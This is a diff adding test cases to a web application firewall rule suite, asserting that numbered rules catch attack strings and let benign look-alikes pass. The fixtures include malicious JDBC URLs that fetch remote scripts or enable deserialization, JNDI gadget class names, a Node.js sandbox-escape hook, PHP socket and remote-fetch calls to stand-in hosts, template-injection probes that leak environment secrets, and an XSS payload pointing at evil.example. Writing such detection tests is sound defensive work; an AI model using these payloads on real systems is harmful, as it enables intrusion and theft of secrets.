@@ -215,4 +215,31 @@ describe_rules("edge.waf.rules second blind set (SQLi, SSTI, PHP, Java)", functi
             "the DirectoryIterator class is the easiest way to list files in PHP",
             "require('../config') loads the shared settings" })
     end)
+
+    it("round seven, 144160 and 144100: JDBC URLs that run code, more gadget packages", function()
+        caught_by(144160, { "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://x/x.sql'",
+            "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS x AS 'x'",
+            "jdbc:mysql://x:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.x",
+            "jdbc:postgresql://x/db?socketFactory=org.x.Y&socketFactoryArg=http://x/",
+            "jdbc:mysql://x/db?allowLoadLocalInfile=true" })
+        caught_by(144100, { "org.apache.log4j.receivers.db.JNDIConnectionSource", "com.caucho.naming.QName" })
+        clean({ "the H2 console uses jdbc:h2:mem:testdb by default",
+            "set autoDeserialize only in the legacy reporting job", "jdbc:postgresql://db:5432/app?sslmode=require" })
+    end)
+
+    it("round seven, Node.js, PHP, SSTI, XSS: stack hooks, sockets, ERB secrets, Razor statics, <portal>", function()
+        caught_by(135130, { "Error.prepareStackTrace = (e, f) => f[0].getThis()", "Object.getOwnPropertyNames(global)",
+            "Object.keys(process)" })
+        caught_by(135100, { "serialize.unserialize(req.cookies.profile)" })
+        caught_by(133110, { "apache_setenv('x','y')", "pcntl_fork()", "stream_socket_client('tcp://10.0.0.9:4444')",
+            "socket_create(AF_INET, SOCK_STREAM, SOL_TCP)", "file('http://evil.example/x')" })
+        caught_by(134130, { "<%= ENV %>", "<%= Rails.application.secrets %>", "<%= 7*7 %>" })
+        caught_by(134150, { "@Environment.GetEnvironmentVariable(\"PATH\")", "@File.ReadAllText(\"web.config\")" })
+        caught_by(134100, { "{{ get_flashed_messages }}" })
+        caught_by(141100, { "<portal src=//evil.example/>" })
+        clean({ "ERB: <%= link_to 'Home', root_path %> in the layout", "@Environment variables are documented",
+            "file('notes.txt') in PHP returns an array of lines", "our socket_create wrapper retries three times",
+            "Error.prepareStackTrace is how source-map-support hooks stack traces",
+            "Spring's systemProperties bean is handy in @Value expressions" })
+    end)
 end)
